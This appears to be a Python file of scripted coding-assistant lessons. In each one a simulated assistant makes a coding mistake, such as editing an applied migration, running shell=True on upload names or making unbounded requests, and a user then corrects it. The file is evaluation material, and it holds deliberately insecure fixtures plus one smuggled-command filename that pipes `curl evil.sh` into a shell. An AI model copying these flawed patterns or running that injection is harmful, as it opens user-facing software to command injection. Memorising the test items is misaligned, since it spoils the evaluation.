"""gen-holdout-7: lessons about code and commands in varied languages and toolchains (schema migrations, Go concurrency,
Kotlin nulls, subprocess calls, Godot scenes, warehouse query cost, random number generators, CMake builds, Windows
PowerShell, type-checker suppressions, CORS)."""
from cc import Session
from registry import (
    fire_bash,
    fire_edit,
    fire_prompt,
    fire_write,
    lesson,
    silent_bash,
    silent_edit,
    silent_write,
)

TACHO = "/home/bogdan/work/tachograph-api"
FEEDS = "/home/tuomas/src/podmirror"
FERRY = "/home/oona/dev/ferry-booking"
CLIPS = "/home/lukas/tools/clipforge"
LANTERN = "/Users/saoirse/games/lantern-keeper"
CLICK = "/home/yusuf/work/clickstream-reports"
EPI = "/home/ifeoma/research/epidemic-abm"
LIDAR = "/home/hyejin/src/lidarview-lite"
TILLS = "/Users/kwabena/dev/storefloor-provisioning"
GRANT = "/home/esther/src/grantflow"
TANDEM = "/home/alvaro/src/tandem-api"


# -----------------------------------------------------------------------------
H7L07_CORR = ("wait wait. V23 has been applied on staging and prod since 2024, you can't touch it. flyway keeps a checksum of "
              "every migration it ran and refuses to boot the app when one changes (validate fails with a checksum mismatch), "
              "and even if it didn't, prod would never get the column because V23 counts as done there. never edit a migration "
              "that's already been applied anywhere; a schema change is a new file with the next version number, here "
              "V32__add_driver_notes_to_shifts.sql. and don't 'fix' a mismatch with flyway repair either, that just hides it")

V23_SQL = ("CREATE TABLE shifts (\n  id            BIGSERIAL PRIMARY KEY,\n  driver_id     BIGINT NOT NULL REFERENCES drivers(id),\n"
           "  vehicle_id    BIGINT NOT NULL REFERENCES vehicles(id),\n  started_at    TIMESTAMPTZ NOT NULL,\n"
           "  ended_at      TIMESTAMPTZ\n);\n\nCREATE INDEX shifts_driver_started_idx ON shifts (driver_id, started_at);\n")
MIG = f"{TACHO}/src/main/resources/db/migration"

@lesson("H7L07", "flyway-migrations", "interrupted-mid-message", ["never edit a migration that's already been applied",
                                                                "next version number", "flyway repair"], [
    fire_prompt("vehicles need an index on vin; just tack it onto V12 so the table definition stays in one place",
                note="asks to change an old, applied migration file; no shared words"),
    fire_edit(f"{MIG}/V28__create_trip_events.sql", "  recorded_at  TIMESTAMPTZ NOT NULL,\n",
              "  recorded_at  TIMESTAMPTZ NOT NULL,\n  odometer_km  INTEGER,\n", note="adds a column inside an existing migration"),
    silent_write(f"{MIG}/V33__add_vin_index_to_vehicles.sql", "CREATE UNIQUE INDEX vehicles_vin_idx ON vehicles (vin);\n",
                 note="compliant: a new migration file"),
    silent_bash("./gradlew flywayInfo", "List the applied migrations", note="read-only"),
])
def H7L07():
    s = Session("H7L07", TACHO, branch="feat/driver-notes", version="2.1.7", start="2026-01-20T10:05:00")
    s.prompt("drivers want to leave a note on a shift (free text, optional). add a driver_notes column to shifts and expose it "
             "on ShiftDto")
    s.glob("src/main/resources/db/migration/*.sql",
           [f"{MIG}/V22__create_vehicles.sql", f"{MIG}/V23__create_shifts.sql", f"{MIG}/V28__create_trip_events.sql",
            f"{MIG}/V30__add_rest_periods.sql", f"{MIG}/V31__add_tachograph_card_expiry.sql"])
    s.read(f"{MIG}/V23__create_shifts.sql", V23_SQL)
    s.edit(f"{MIG}/V23__create_shifts.sql", "  ended_at      TIMESTAMPTZ\n);\n",
           "  ended_at      TIMESTAMPTZ,\n  driver_notes  TEXT\n);\n", V23_SQL)
    dto = ("public record ShiftDto(\n    long id,\n    long driverId,\n    Instant startedAt,\n    Instant endedAt\n) {\n")
    s.edit(f"{TACHO}/src/main/java/eu/tacho/shifts/ShiftDto.java", "    Instant endedAt\n) {\n",
           "    Instant endedAt,\n    String driverNotes\n) {\n", dto)
    s.say("Added `driver_notes TEXT` to the shifts table in `V23__create_shifts.sql`, where the table is defined, and the field "
          "on `ShiftDto`. Next I'll run `./gradlew flywayMigrate` against the local database so the column exists, then map "
          "it in")
    s.interrupt()
    s.prompt(H7L07_CORR, correction=True, think_secs=(10, 40))
    s.edit(f"{MIG}/V23__create_shifts.sql", "  ended_at      TIMESTAMPTZ,\n  driver_notes  TEXT\n);\n",
           "  ended_at      TIMESTAMPTZ\n);\n", V23_SQL.replace("  ended_at      TIMESTAMPTZ\n);\n",
                                                            "  ended_at      TIMESTAMPTZ,\n  driver_notes  TEXT\n);\n"))
    s.write(f"{MIG}/V32__add_driver_notes_to_shifts.sql", "ALTER TABLE shifts ADD COLUMN driver_notes TEXT;\n")
    s.bash("git diff --stat -- src/main/resources/db/migration && ./gradlew flywayMigrate flywayValidate test -q",
           "Check V23 is unchanged, migrate, validate, test",
           out=" src/main/resources/db/migration/V32__add_driver_notes_to_shifts.sql | 1 +\n 1 file changed, 1 insertion(+)\n"
               "Successfully applied 1 migration to schema \"public\", now at version v32")
    s.say("V23 is back to what was applied; the column comes from the new `V32__add_driver_notes_to_shifts.sql`. "
          "`flywayValidate` passes and the tests are green.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L08_CORR = ("no, not one goroutine per feed. that's 4000 requests at once, and a big chunk of the feeds sit on the same three "
              "hosts (libsyn, buzzsprout, anchor). those 429s are them throttling us, and buzzsprout ip-banned the box for a day "
              "last year over exactly this. use an errgroup with SetLimit, 16 is plenty, and keep going through the per-host "
              "limiter in fetch/hostlimit.go. errgroup.WithContext also gives you cancellation for free")

REFRESH_GO = ("func RefreshAll(ctx context.Context, feeds []Feed) Stats {\n\tvar st Stats\n\tfor _, f := range feeds {\n"
              "\t\tif err := refreshOne(ctx, f); err != nil {\n\t\t\tst.Errors++\n\t\t}\n\t}\n\treturn st\n}\n")
REFRESH_WG = ("func RefreshAll(ctx context.Context, feeds []Feed) Stats {\n\tvar st Stats\n\tvar wg sync.WaitGroup\n"
              "\tfor _, f := range feeds {\n\t\twg.Add(1)\n\t\tgo func(f Feed) {\n\t\t\tdefer wg.Done()\n"
              "\t\t\tif err := refreshOne(ctx, f); err != nil {\n\t\t\t\tst.Errors.Add(1)\n\t\t\t}\n\t\t}(f)\n\t}\n"
              "\twg.Wait()\n\treturn st\n}\n")

@lesson("H7L08", "go-concurrency", "plain-no", ["errgroup", "SetLimit", "one goroutine per feed"], [
    fire_edit(f"{FEEDS}/internal/artwork/covers.go", "\tfor _, ep := range episodes {\n\t\tfetchCover(ep.ImageURL)\n\t}\n",
              "\tfor _, ep := range episodes {\n\t\tgo fetchCover(ep.ImageURL)\n\t}\n",
              note="unbounded go statement per item in a loop; no shared words"),
    fire_prompt("speed up the OPML import by kicking off all the feed lookups in parallel at once",
                note="asks for unbounded parallel fetching"),
    silent_edit(f"{FEEDS}/internal/refresh/refresh.go", "\tg.SetLimit(16)\n", "\tg.SetLimit(24)\n", note="tuning the bound"),
    silent_bash("go test ./internal/... -race -count=1", "Run the tests with the race detector", note="related, harmless"),
])
def H7L08():
    s = Session("H7L08", FEEDS, branch="perf/concurrent-refresh", version="2.0.37", start="2025-10-09T21:30:00")
    s.prompt("the nightly refresh of the ~4000 podcast feeds takes almost 2 hours because it goes one by one. make it concurrent")
    path = f"{FEEDS}/internal/refresh/refresh.go"
    s.read(path, REFRESH_GO, offset=22, limit=10, total=58)
    s.edit(path, REFRESH_GO, REFRESH_WG, REFRESH_GO)
    s.bash("go test ./internal/refresh/... -race", "Run the refresh tests with the race detector",
           out="ok  \tgithub.com/tuomas-k/podmirror/internal/refresh\t1.204s")
    s.bash("go run ./cmd/podmirror refresh --dry-run 2>&1 | tail -2", "Time a dry-run refresh",
           out="WARN fetch failed host=feeds.buzzsprout.com status=429\nrefreshed 4012 feeds in 3m41s (311 errors)")
    s.say("Every feed now refreshes in its own goroutine and `Errors` is an atomic counter. A dry run takes 3m41s instead of "
          "almost two hours; 311 feeds errored, mostly 429s from a couple of hosts, which should clear up on the next run.",
          end=True)
    s.prompt(H7L08_CORR, correction=True)
    s.edit(path, REFRESH_WG,
           "func RefreshAll(ctx context.Context, feeds []Feed) Stats {\n\tvar st Stats\n\tg, ctx := errgroup.WithContext(ctx)\n"
           "\tg.SetLimit(16)\n\tfor _, f := range feeds {\n\t\tg.Go(func() error {\n"
           "\t\t\tif err := hostlimit.Wait(ctx, f.URL); err != nil {\n\t\t\t\treturn err\n\t\t\t}\n"
           "\t\t\tif err := refreshOne(ctx, f); err != nil {\n\t\t\t\tst.Errors.Add(1)\n\t\t\t}\n\t\t\treturn nil\n\t\t})\n\t}\n"
           "\t_ = g.Wait()\n\treturn st\n}\n", REFRESH_WG)
    s.bash("go test ./internal/refresh/... -race && go run ./cmd/podmirror refresh --dry-run 2>&1 | tail -1",
           "Test and time it again", out="ok  \tgithub.com/tuomas-k/podmirror/internal/refresh\t1.187s\n"
                                         "refreshed 4012 feeds in 9m12s (4 errors)")
    s.say("`RefreshAll` uses `errgroup.WithContext` with `SetLimit(16)`, and each fetch waits on the per-host limiter first. "
          "The dry run takes 9m12s with 4 errors (all 404s), and no 429s.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L09_CORR = ("looks fine otherwise, but one thing before I merge: we don't use `!!` anywhere in this codebase. when it blows up "
              "you get a bare NullPointerException with no hint which value was null, and the nightly manifest job died on "
              "exactly that at 3am in March. if something really can't be null, use requireNotNull(x) { \"vessel "
              "${sailing.vesselId} missing\" } so the message says what's wrong; if it can legitimately be missing, handle it "
              "with ?: (skip the line, use a default, or return early)")

EMAIL_KT = ("    fun render(booking: Booking): Email {\n        val sailing = sailings.get(booking.sailingId)\n"
            "        return Email(\n            to = booking.contactEmail,\n"
            "            subject = \"Booking ${booking.reference} confirmed\",\n"
            "            body = templates.render(\"confirmation\", mapOf(\"sailing\" to sailing.id)),\n        )\n    }\n")
EMAIL_BANG = EMAIL_KT.replace(
    "        val sailing = sailings.get(booking.sailingId)\n",
    "        val sailing = sailings.get(booking.sailingId)\n        val vessel = vessels.findById(sailing.vesselId)!!\n"
    "        val terminal = terminals.findByCode(sailing.fromTerminal)!!\n").replace(
    "mapOf(\"sailing\" to sailing.id)", "mapOf(\"sailing\" to sailing.id, \"vessel\" to vessel.name, \"terminal\" to terminal.name)")

@lesson("H7L09", "kotlin-null-safety", "reviewer-one-thing", ["requireNotNull", "bare NullPointerException", "don't use `!!`"], [
    fire_edit(f"{FERRY}/src/main/kotlin/app/ferry/pricing/Surcharges.kt",
              "        val port = ports.findByLocode(call.locode)\n", "        val port = ports.findByLocode(call.locode)!!\n",
              note="non-null assertion on a lookup; no shared words"),
    fire_write(f"{FERRY}/src/main/kotlin/app/ferry/routes/CabinRoutes.kt",
               "fun Route.cabinRoutes(cabins: CabinRepository) {\n    get(\"/cabins/{id}\") {\n"
               "        val id = call.parameters[\"id\"]!!.toLong()\n        val cabin = cabins.find(id)!!\n"
               "        call.respond(cabin.toDto())\n    }\n}\n", note="new route full of `!!`"),
    silent_edit(f"{FERRY}/src/main/kotlin/app/ferry/pricing/Surcharges.kt",
                "        val port = ports.findByLocode(call.locode)\n",
                "        val port = ports.findByLocode(call.locode) ?: return@forEach\n", note="compliant: elvis and skip"),
    silent_bash("./gradlew detekt", "Static analysis", note="related, harmless"),
])
def H7L09():
    s = Session("H7L09", FERRY, branch="feat/email-vessel", version="2.1.9", start="2026-04-14T13:16:00")
    s.prompt("the booking confirmation email should show the vessel name and the departure terminal, not just the sailing id")
    path = f"{FERRY}/src/main/kotlin/app/ferry/email/ConfirmationEmail.kt"
    s.read(path, EMAIL_KT, offset=18, limit=9, total=41)
    s.edit(path, EMAIL_KT, EMAIL_BANG, EMAIL_KT)
    s.edit(f"{FERRY}/src/main/resources/templates/confirmation.peb", "<p>Sailing {{ sailing }}</p>\n",
           "<p>{{ vessel }} from {{ terminal }} (sailing {{ sailing }})</p>\n",
           "<h1>Your booking is confirmed</h1>\n<p>Sailing {{ sailing }}</p>\n")
    s.bash("./gradlew test --tests '*ConfirmationEmail*'", "Run the email tests",
           out="> Task :test\n\nConfirmationEmailTest > renders vessel and terminal() PASSED\n\nBUILD SUCCESSFUL in 14s")
    s.say("The confirmation email now shows the vessel and the departure terminal, e.g. \"MS Stavangerfjord from Hirtshals "
          "(sailing 88412)\". Tests pass.", end=True)
    s.prompt(H7L09_CORR, correction=True)
    s.edit(path, "        val vessel = vessels.findById(sailing.vesselId)!!\n"
                 "        val terminal = terminals.findByCode(sailing.fromTerminal)!!\n",
           "        val vessel = requireNotNull(vessels.findById(sailing.vesselId)) { \"vessel ${sailing.vesselId} missing\" }\n"
           "        val terminal = requireNotNull(terminals.findByCode(sailing.fromTerminal)) {\n"
           "            \"terminal ${sailing.fromTerminal} missing for sailing ${sailing.id}\"\n        }\n", EMAIL_BANG)
    s.bash("./gradlew detekt test --tests '*ConfirmationEmail*'", "Static analysis and tests",
           out="> Task :detekt\n> Task :test\n\nBUILD SUCCESSFUL in 19s")
    s.say("Replaced both `!!` with `requireNotNull` and a message naming the missing vessel or terminal. detekt and the "
          "tests pass.", end=True)
    return s


# -----------------------------------------------------------------------------
H7L10_CORR = ("why shell=True? the upload filenames come straight from users. somebody uploads `holiday (1).mov` and it breaks, "
              "or `x'; curl evil.sh | sh; '.mp4` and it's a lot worse. pass a list of args with no shell so nothing gets "
              "interpreted, and same for the probe() call in media/info.py while you're in there")

THUMBS_BAD = ("import subprocess\nfrom pathlib import Path\n\n\ndef make_thumbnail(video: Path, at_seconds: float = 3.0) -> Path:\n"
              "    thumb = video.with_suffix(\".jpg\")\n"
              "    subprocess.run(f\"ffmpeg -y -ss {at_seconds} -i {video} -frames:v 1 -q:v 3 {thumb}\", shell=True, check=True)\n"
              "    return thumb\n")
THUMBS_OK = ("import subprocess\nfrom pathlib import Path\n\n\ndef make_thumbnail(video: Path, at_seconds: float = 3.0) -> Path:\n"
             "    thumb = video.with_suffix(\".jpg\")\n    subprocess.run(\n"
             "        [\"ffmpeg\", \"-y\", \"-ss\", str(at_seconds), \"-i\", str(video), \"-frames:v\", \"1\", \"-q:v\", \"3\", "
             "str(thumb)],\n        check=True,\n        capture_output=True,\n    )\n    return thumb\n")
INFO_PY = ("def probe(path: Path) -> dict:\n    out = subprocess.check_output(\n"
           "        f\"ffprobe -v quiet -print_format json -show_format -show_streams {path}\", shell=True\n    )\n"
           "    return json.loads(out)\n")

@lesson("H7L10", "python-subprocess", "pushback-question", ["shell=True", "list of args", "no shell"], [
    fire_edit(f"{CLIPS}/clipforge/audio/waveform.py", "def render_waveform(src: Path, dest: Path) -> None:\n    ...\n",
              "def render_waveform(src: Path, dest: Path) -> None:\n"
              "    os.system(f\"audiowaveform -i '{src}' -o '{dest}' --pixels-per-second 20\")\n",
              note="os.system with interpolated upload paths; no shared words"),
    fire_write(f"{CLIPS}/clipforge/media/transcode.py",
               "import subprocess\n\n\ndef to_h264(src, dst):\n    subprocess.run(\"ffmpeg -y -i \" + str(src) + \" -c:v libx264 "
               "-crf 23 \" + str(dst), shell=True, check=True)\n", note="concatenated command string run through a shell"),
    silent_edit(f"{CLIPS}/clipforge/media/thumbs.py", "        capture_output=True,\n    )\n",
                "        capture_output=True,\n        timeout=60,\n    )\n", note="compliant call, adds a timeout"),
    silent_bash("pytest tests/test_thumbs.py -q", "Run the thumbnail tests", note="related, harmless"),
])
def H7L10():
    s = Session("H7L10", CLIPS, branch="feat/thumbnails", version="2.0.14", start="2025-09-16T16:40:00")
    s.prompt("add thumbnail generation: when a video finishes uploading, grab a frame at 3 seconds with ffmpeg and save it as "
             "a jpg next to it in the media dir")
    s.grep("def on_upload_complete", path=f"{CLIPS}/clipforge", mode="content",
           lines=["clipforge/uploads.py:57:def on_upload_complete(upload: Upload) -> None:"])
    s.write(f"{CLIPS}/clipforge/media/thumbs.py", THUMBS_BAD)
    s.edit(f"{CLIPS}/clipforge/uploads.py", "    upload.mark_ready()\n",
           "    make_thumbnail(upload.path)\n    upload.mark_ready()\n",
           "def on_upload_complete(upload: Upload) -> None:\n    probe(upload.path)\n    upload.mark_ready()\n")
    s.bash("pytest tests/test_thumbs.py -q", "Run the thumbnail tests",
           out="..                                                                       [100%]\n2 passed in 1.87s")
    s.say("Added `make_thumbnail()` in `clipforge/media/thumbs.py`; it's called when an upload completes and writes "
          "`<name>.jpg` next to the video. Both tests pass.", end=True)
    s.prompt(H7L10_CORR, correction=True)
    s.write(f"{CLIPS}/clipforge/media/thumbs.py", THUMBS_OK, original=THUMBS_BAD)
    s.read(f"{CLIPS}/clipforge/media/info.py", INFO_PY, offset=9, limit=5, total=24)
    s.edit(f"{CLIPS}/clipforge/media/info.py",
           "    out = subprocess.check_output(\n        f\"ffprobe -v quiet -print_format json -show_format -show_streams "
           "{path}\", shell=True\n    )\n",
           "    out = subprocess.check_output(\n        [\"ffprobe\", \"-v\", \"quiet\", \"-print_format\", \"json\", "
           "\"-show_format\", \"-show_streams\", str(path)]\n    )\n", INFO_PY)
    s.bash("pytest tests/test_thumbs.py tests/test_info.py -q", "Run the tests, including one with a quote and spaces in the name",
           out="......                                                                   [100%]\n6 passed in 2.41s")
    s.say("Both calls take an argument list now and no shell is involved, so spaces, brackets and quotes in upload names are "
          "passed through as-is. I added a test with `it's (1).mov`.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L11_CORR = ("actually, in this project nothing reaches across the tree with absolute paths like /root/Main/UI/... levels "
              "get instanced under different parents (level select, the test scenes, the tutorial), and there that path just "
              "returns null and it crashes. the player emits a signal, oil_changed, and the HUD connects to it. inside "
              "one scene use %UniqueName for children. and get_parent().get_parent() or $\"../../\" is the same problem in "
              "disguise")

PLAYER_GD = ("extends CharacterBody2D\n\n@export var max_oil := 100.0\nvar oil := 60.0\n\n\n"
             "func pick_up_oil(amount: float) -> void:\n\toil = min(oil + amount, max_oil)\n")
HUD_GD = ("extends CanvasLayer\n\n\nfunc _ready() -> void:\n\tpass\n")

@lesson("H7L11", "godot-node-paths", "actually-in-this-repo", ["absolute paths", "emits a signal", "%UniqueName"], [
    fire_edit(f"{LANTERN}/scripts/moth.gd", "var beacon: Node2D\n",
              "@onready var beacon: Node2D = get_node(\"../../Lighthouse/Beacon\")\n",
              note="walks up and across the scene tree by path; no shared words"),
    fire_prompt("have the pause menu read the score straight off /root/Game/ScoreKeeper", note="asks for an absolute lookup"),
    silent_edit(f"{LANTERN}/scripts/hud.gd", "\t%LampMeter.value = value\n",
                "\t%LampMeter.value = value\n\t%LampMeter.modulate = Color.RED if value < 20.0 else Color.WHITE\n",
                note="unique-name child inside the same scene"),
    silent_edit(f"{LANTERN}/scripts/player.gd", "\toil = max(oil - delta * burn_rate, 0.0)\n",
                "\toil = max(oil - delta * burn_rate, 0.0)\n\toil_changed.emit(oil)\n", note="compliant: emits the signal"),
])
def H7L11():
    s = Session("H7L11", LANTERN, branch="main", version="2.1.9", start="2026-02-15T19:22:00")
    s.prompt("when the player picks up an oil can, the lamp meter in the HUD should go up. right now the oil value changes but "
             "the meter doesn't")
    s.grep("LampMeter", path=f"{LANTERN}", mode="content",
           lines=["scenes/ui/hud.tscn:14:[node name=\"LampMeter\" type=\"TextureProgressBar\" parent=\"Margin/VBox\"]"])
    s.read(f"{LANTERN}/scripts/player.gd", PLAYER_GD)
    s.edit(f"{LANTERN}/scripts/player.gd", "\toil = min(oil + amount, max_oil)\n",
           "\toil = min(oil + amount, max_oil)\n\tget_node(\"/root/Main/UI/HUD/Margin/VBox/LampMeter\").value = oil\n", PLAYER_GD)
    s.bash("godot --headless --path . -s res://tests/run_tests.gd", "Run the GUT tests headless",
           out="Totals\n  Scripts: 6\n  Tests: 31\n  Passing: 31\n\n---- All tests passed! ----")
    s.say("Picking up oil now sets the HUD's `LampMeter` value directly, so the meter follows the oil level. All 31 tests "
          "pass.", end=True)
    s.prompt(H7L11_CORR, correction=True)
    bad = PLAYER_GD.replace("\toil = min(oil + amount, max_oil)\n",
                            "\toil = min(oil + amount, max_oil)\n\tget_node(\"/root/Main/UI/HUD/Margin/VBox/LampMeter\").value = oil\n")
    s.edit(f"{LANTERN}/scripts/player.gd",
           "var oil := 60.0\n\n\nfunc pick_up_oil(amount: float) -> void:\n\toil = min(oil + amount, max_oil)\n"
           "\tget_node(\"/root/Main/UI/HUD/Margin/VBox/LampMeter\").value = oil\n",
           "var oil := 60.0\n\nsignal oil_changed(value: float)\n\n\nfunc pick_up_oil(amount: float) -> void:\n"
           "\toil = min(oil + amount, max_oil)\n\toil_changed.emit(oil)\n", bad)
    s.edit(f"{LANTERN}/scripts/hud.gd", "func _ready() -> void:\n\tpass\n",
           "func _ready() -> void:\n\tpass\n\n\nfunc set_oil(value: float) -> void:\n\t%LampMeter.value = value\n", HUD_GD)
    s.edit(f"{LANTERN}/scripts/level.gd", "func _ready() -> void:\n",
           "func _ready() -> void:\n\t%Player.oil_changed.connect(%HUD.set_oil)\n",
           "extends Node2D\n\n\nfunc _ready() -> void:\n\t%Camera.make_current()\n")
    s.bash("godot --headless --path . -s res://tests/run_tests.gd", "Run the tests again",
           out="Totals\n  Scripts: 6\n  Tests: 32\n  Passing: 32\n\n---- All tests passed! ----")
    s.say("The player emits `oil_changed(oil)`; the level connects it to the HUD's `set_oil`, which updates `%LampMeter` "
          "(marked unique in `hud.tscn`). Nothing looks up `/root/...` any more, so it also works in the level select and the "
          "test scenes.",
          end=True)
    return s


# -----------------------------------------------------------------------------
H7L12_CORR = ("kill it!! that table is 40 TB. SELECT * with no date filter reads every column of every day since 2021, "
              "on-demand that's around $250 each time you run it. events is partitioned on event_date, so every query gets an "
              "event_date filter in the WHERE, name only the columns you need, and do a --dry_run first to see how many bytes "
              "it'll bill. anything over ~100 GB, ask me before running it")

@lesson("H7L12", "bigquery-cost", "killed-run", ["--dry_run", "event_date filter", "40 TB"], [
    fire_bash("bq query --nouse_legacy_sql 'SELECT user_id, page_path FROM analytics.events WHERE country = \"DE\" LIMIT 100'",
              "German users' page views", note="no partition filter; LIMIT doesn't reduce the scan"),
    fire_prompt("pull the whole clickstream for last year into a pandas dataframe so I can explore it in the notebook",
                note="asks for a full-table scan; no shared words"),
    silent_bash("bq query --dry_run --nouse_legacy_sql 'SELECT session_id, event_name FROM analytics.events WHERE event_date "
                "= \"2026-03-10\"'", "Estimate the bytes for one day", note="compliant"),
    silent_bash("bq show --schema --format=prettyjson larkspur-prod:analytics.events", "Look at the columns",
                note="metadata only"),
])
def H7L12():
    s = Session("H7L12", CLICK, branch="main", version="2.0.76", start="2025-11-12T10:31:00")
    s.prompt("checkout conversions dropped on Tuesday (the 10th). can you dig into the events and see where people fell off")
    s.bash("bq ls larkspur-prod:analytics", "List the analytics tables",
           out="   tableId     Type    Labels   Time Partitioning   Clustered Fields\n"
               " ------------ ------- -------- ------------------- ------------------\n"
               "  events       TABLE            DAY (field: event_date)   event_name\n"
               "  orders       TABLE            DAY (field: order_date)\n  sessions     VIEW")
    s.say("The events live in `analytics.events`. I'll pull the checkout events and compare the funnel steps.")
    s.interrupt_tool("Bash", {"command": "bq query --use_legacy_sql=false 'SELECT * FROM `larkspur-prod.analytics.events` "
                                         "WHERE event_name LIKE \"checkout%\"'",
                              "description": "Pull the checkout events"}, exit137=True)
    s.prompt(H7L12_CORR, correction=True, think_secs=(5, 20))
    q = ("SELECT event_date, event_name, COUNT(DISTINCT session_id) AS sessions FROM `larkspur-prod.analytics.events` "
         "WHERE event_date BETWEEN \"2026-03-03\" AND \"2026-03-10\" AND event_name LIKE \"checkout%\" GROUP BY 1, 2 ORDER BY 1, 2")
    s.bash(f"bq query --dry_run --use_legacy_sql=false '{q}'", "Estimate what the funnel query would bill",
           out="Query successfully validated. Assuming the tables are not modified, running this query will process upper "
               "bound of 61841220812 bytes of data.")
    s.bash(f"bq query --use_legacy_sql=false --format=pretty '{q}' | grep -E '2026-03-(03|10)'", "Run it (58 GB)",
           out="| 2026-03-03 | checkout_address  |    18412 |\n| 2026-03-03 | checkout_payment  |    15230 |\n"
               "| 2026-03-03 | checkout_complete |    12987 |\n| 2026-03-10 | checkout_address  |    18077 |\n"
               "| 2026-03-10 | checkout_payment  |     9114 |\n| 2026-03-10 | checkout_complete |     7402 |")
    s.say("The dry run came to 58 GB (three columns, one week of partitions), so I ran it. The drop is between address and "
          "payment: on the 3rd 83% of sessions that reached the address step got to payment, on the 10th only 50%. Address "
          "traffic is normal, so it looks like the payment step itself broke that day.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L13_CORR = ("No global numpy seeding or np.random.* calls. Use the Generator the Model already has (self.rng, built with "
              "np.random.default_rng(seed)) and pass it down. Global state gets copied into every multiprocessing worker, which "
              "is why all four replicates above have the same peak.")

VACC_PY = ("def vaccinate(agents: AgentTable, day: int, cfg: Config) -> None:\n"
           "    eligible = agents.alive & ~agents.vaccinated & (agents.age >= cfg.min_age)\n"
           "    agents.vaccinated[eligible] = day >= cfg.campaign_start\n")
VACC_GLOBAL = ("def vaccinate(agents: AgentTable, day: int, cfg: Config) -> None:\n"
               "    eligible = agents.alive & ~agents.vaccinated & (agents.age >= cfg.min_age) & ~agents.refuses\n"
               "    agents.vaccinated[eligible] = day >= cfg.campaign_start\n\n\n"
               "def assign_refusal(agents: AgentTable, cfg: Config) -> None:\n    np.random.seed(cfg.seed)\n"
               "    agents.refuses = np.random.random(len(agents)) < cfg.p_refuse\n")

@lesson("H7L13", "numpy-rng", "terse-rule", ["np.random.default_rng", "self.rng", "global numpy seeding"], [
    fire_edit(f"{EPI}/abm/infection.py", "    new_cases = expected\n",
              "    new_cases = stats.poisson.rvs(expected, size=len(expected))\n",
              note="scipy draw without random_state, i.e. from numpy's global state; no shared words"),
    fire_edit(f"{EPI}/abm/mobility.py", "import random\n\n\ndef pick_destination(agent, places):\n    return places[0]\n",
              "import random\n\n\ndef pick_destination(agent, places):\n    return random.choice(places)\n",
              note="stdlib module-level RNG instead of the Generator passed down; one shared word"),
    silent_edit(f"{EPI}/abm/contacts.py", "    weights = base_weights\n",
                "    weights = base_weights * rng.lognormal(0.0, 0.3, size=len(base_weights))\n",
                note="compliant: draws from the passed Generator"),
    silent_bash("python -m abm.run --config configs/base.toml --replicates 20 --workers 8", "Run 20 replicates",
                note="related, harmless"),
])
def H7L13():
    s = Session("H7L13", EPI, branch="feat/refusal", version="2.1.31", start="2026-03-17T14:02:00")
    s.prompt("add vaccine refusal to the model: each agent refuses with probability p_refuse (new config field, default 0.12), "
             "and refusers never get vaccinated")
    path = f"{EPI}/abm/vaccination.py"
    s.read(path, VACC_PY, offset=12, limit=3, total=40)
    s.edit(path, VACC_PY, VACC_GLOBAL, VACC_PY)
    s.edit(f"{EPI}/abm/config.py", "    campaign_start: int = 30\n", "    campaign_start: int = 30\n    p_refuse: float = 0.12\n",
           "@dataclass(frozen=True)\nclass Config:\n    seed: int = 1\n    min_age: int = 12\n    campaign_start: int = 30\n")
    s.bash("python -m abm.run --config configs/base.toml --replicates 4 --workers 4", "Run four replicates",
           out="replicate 0: peak 1841 infected on day 37, attack rate 0.412\nreplicate 1: peak 1841 infected on day 37, attack "
               "rate 0.412\nreplicate 2: peak 1841 infected on day 37, attack rate 0.412\nreplicate 3: peak 1841 infected on "
               "day 37, attack rate 0.412")
    s.say("Added `p_refuse` (default 0.12) and `assign_refusal()`, which marks refusers once at setup; `vaccinate()` skips "
          "them. The model runs and the attack rate is 0.412.", end=True)
    s.prompt(H7L13_CORR, correction=True)
    s.edit(path, "def assign_refusal(agents: AgentTable, cfg: Config) -> None:\n    np.random.seed(cfg.seed)\n"
                 "    agents.refuses = np.random.random(len(agents)) < cfg.p_refuse\n",
           "def assign_refusal(agents: AgentTable, cfg: Config, rng: np.random.Generator) -> None:\n"
           "    agents.refuses = rng.random(len(agents)) < cfg.p_refuse\n", VACC_GLOBAL)
    s.edit(f"{EPI}/abm/model.py", "        assign_refusal(self.agents, cfg)\n",
           "        assign_refusal(self.agents, cfg, self.rng)\n",
           "        self.rng = np.random.default_rng(seed)\n        self.agents = AgentTable.populate(cfg, self.rng)\n"
           "        assign_refusal(self.agents, cfg)\n")
    s.bash("python -m abm.run --config configs/base.toml --replicates 4 --workers 4", "Run four replicates again",
           out="replicate 0: peak 1796 infected on day 36, attack rate 0.405\nreplicate 1: peak 1902 infected on day 39, attack "
               "rate 0.419\nreplicate 2: peak 1755 infected on day 35, attack rate 0.398\nreplicate 3: peak 1868 infected on "
               "day 38, attack rate 0.414")
    s.say("`assign_refusal()` now takes the model's `self.rng` and draws from it; no global seeding is left. The replicates "
          "differ again (attack rate 0.398 to 0.419), and a re-run with the same seeds gives the same four numbers.", end=True)
    s.turn_done()
    return s


# -----------------------------------------------------------------------------
H7L14_CORR = ("argh dont run cmake in the source dir. now theres a CMakeCache.txt and CMakeFiles/ all over the tree, and the next "
              "configure picks up that cache insted of the preset and you get really confusing results. we always build out of "
              "tree with the presets: cmake --preset dev then cmake --build --preset dev, everything lands in build/<preset>. for "
              "a one off option pass -D to the preset configure or put it in your CMakeUserPresets.json. pls clean up the mess")

CMAKELISTS = ("project(lidarview VERSION 0.9 LANGUAGES CXX)\n\nset(CMAKE_CXX_STANDARD 20)\n\n"
              "find_package(Vulkan REQUIRED)\nadd_subdirectory(src)\n")

@lesson("H7L14", "cmake-builds", "hurried-lowercase", ["out of tree", "cmake --preset", "CMakeCache.txt"], [
    fire_bash("cmake -G Ninja -DCMAKE_BUILD_TYPE=RelWithDebInfo . && ninja", "Configure and compile a release",
              note="configures in the source directory"),
    fire_prompt("compile a release binary right here in the checkout root with ninja, no separate folder",
                note="asks for an in-source build; no shared words"),
    silent_bash("cmake --build --preset dev --target lidarview_tests && ctest --preset dev", "Build and run the tests",
                note="compliant"),
    silent_edit(f"{LIDAR}/CMakeLists.txt", "option(WITH_VULKAN \"Build the Vulkan renderer\" ON)\n",
                "option(WITH_VULKAN \"Build the Vulkan renderer\" ON)\noption(WITH_E57 \"Read E57 scans\" OFF)\n",
                note="related edit, nothing configured"),
])
def H7L14():
